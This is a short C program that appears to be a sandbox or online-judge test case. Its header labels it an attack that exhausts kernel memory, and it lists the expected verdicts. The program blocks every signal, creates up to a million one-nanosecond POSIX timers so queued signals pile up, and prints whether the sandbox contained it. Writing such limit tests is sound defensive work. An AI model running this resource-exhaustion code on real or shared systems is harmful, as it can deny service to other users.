// attack: takes the kernel's memory: timers and queued signals without end
// expect: WA MLE TLE RTE SV

#include <signal.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

int main(void) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    long made = 0;
    timer_t timer;
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
    struct itimerspec soon = {.it_value = {.tv_nsec = 1}};
    while (made < 1000000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0) {
        timer_settime(timer, 0, &soon, NULL);
        made++;
    }
    if (made > 20000) printf("BREACH: %ld timers\n", made);
    puts("contained");
}
